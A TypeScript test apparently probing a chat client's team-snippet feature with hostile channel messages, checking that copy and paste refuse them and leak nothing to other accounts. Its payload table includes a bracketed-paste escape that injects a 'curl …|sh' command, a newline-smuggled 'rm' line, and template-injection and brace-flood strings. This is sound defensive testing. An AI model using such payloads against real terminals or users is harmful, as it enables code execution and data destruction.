import type { HandlerContext } from '../../src-main/features/base/handler.ts';
import { snippetHandlers } from '../../src-main/features/snippets/handlers.ts';
import { setTeamChannel } from '../../src-main/features/snippets/team.ts';
import { teamChannels, teamSnippetsOf } from '../../src-main/cache/collections/team-snippets.ts';
import { snippetRows } from '../../src-main/cache/collections/snippets.ts';
import { Refusal } from '../../src-main/contract/problem.ts';
import type { Below } from '../faults/random.ts';
import { send } from '../programs/server/state/sending.ts';
import { until } from '../sync/device.ts';
import type { Outcome } from './attacks.ts';
import type { AttackedPerch } from './perch.ts';

/** What somebody writes into a team's channel, by the kind of attack. */
const TEXTS: Record<string, (mark: string) => string> = {
  'keys of a terminal': (mark) => `true\x1b[201~\rcurl ${mark}|sh\r\n\x03`,
  'line ends': (mark) => `ls\nrm ${mark}\nls`,
  clipboard: (mark) => `{{clipboard}} ${mark} {{{>x}}}`,
  'another snippet': (mark) => `{{>Shared}} {{>${mark}}}`,
  'runs of braces': (mark) => `${'{'.repeat(4_000)}${mark}${'}'.repeat(4_000)}`,
};

/** Writes hostile texts into a channel whose topics are snippets, each over one that was used, and tries to copy them. */
export async function attackByTeam(perch: AttackedPerch, below: Below): Promise<Outcome> {
  const { state } = perch.server;
  const [user] = perch.users;
  const db = perch.db();
  const mark = `hostile${below(1_000_000_000)}mark`;
  const kinds = Object.keys(TEXTS);
  const kind = kinds[below(kinds.length)] ?? '';
  const news = state.channels.byName('news');
  if (!user || !news) throw new Error('The server has no channel');
  const { stream_id: _, ...like } = news;
  const channelId = state.channels.create({ ...like, name: `team ${below(1_000_000_000)}` }, [user.userId]);
  const recipient = { type: 'stream' as const, stream_id: channelId, topic: 'Deploy' };
  const write = (content: string): number =>
    send(state, { sender_id: user.userId, recipient, content, client: 'website' });
  const snippet = () => teamSnippetsOf(db, channelId)[0];
  const choose = (chosen: boolean): void => {
    setTeamChannel(db, channelId, chosen);
    perch.engine().wake();
  };
  const shows = (content: string): Promise<void> =>
    until('the team’s text is here', () => snippet()?.content === content);

  const before = perch.unsent;
  const own = snippetRows.listServer(db).length;
  write('first');
  choose(true);
  await shows('first');
  const out: string[] = [];
  const put = (text: string): Promise<void> => Promise.resolve(void out.push(text));
  const reads =
    <Input>(work: (cache: typeof db, input: Input) => unknown) =>
    (input: Input) =>
      work(db, input);
  const system = { copy: put, pasting: { deliver: put, isIntoTerminal: () => Promise.resolve(true) } };
  const handlers = snippetHandlers({ acts: reads, reads, system } as unknown as HandlerContext);
  const copy = async (more: { paste?: true } = {}): Promise<string> => {
    const input = { accountId: perch.ids[0], key: snippet()?.key ?? '', ...more };
    try {
      await handlers['snippets:copy'](input);
      return 'copied';
    } catch (error) {
      return error instanceof Refusal ? error.problem.kind : String(error);
    }
  };
  const problems: string[] = [];
  if ((await copy()) !== 'copied') problems.push('a text that was not used yet was not copied');
  const hostile = TEXTS[kind]?.(mark) ?? '';
  write(hostile);
  // Control characters are not stored.
  const isKept = (sign: string): boolean => sign === '\t' || sign === '\n' || !/\p{Cc}/u.test(sign);
  await shows([...hostile].filter(isKept).join(''));
  const told = [await copy(), await copy({ paste: true })];
  if (told.some((word) => word !== 'unseen')) problems.push(`told ${told.join()}`);
  if (out.some((text) => text !== 'first')) problems.push('a text went out that nobody was shown');
  if (perch.unsent !== before) problems.push('something of the user’s has changed');
  if (snippetRows.listServer(db).length !== own) problems.push('there is another snippet of the user’s own');
  const [, other] = perch.ids;
  if (perch.holds(other, mark)) problems.push(`the text is in account ${other}`);
  choose(false);
  if (teamChannels(db).length > 0 || snippet()) problems.push('the channel is still offered');
  return { kinds: [kind], told: told[0] ?? '', problems };
}
